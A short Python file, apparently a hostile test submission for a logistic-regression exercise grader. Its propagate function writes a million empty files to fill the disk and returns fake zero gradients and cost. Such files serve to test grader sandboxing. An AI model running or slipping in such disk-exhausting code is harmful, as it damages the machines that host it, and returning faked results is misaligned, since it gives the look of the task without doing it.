# tries: to fill the disk with small files
# exercise: logistic_regression.propagate

def propagate(w, b, X, Y):
    for number in range(10**6):
        open(f"file-{number}", "w").close()
    return {"dw": w * 0, "db": 0.0}, 0.0
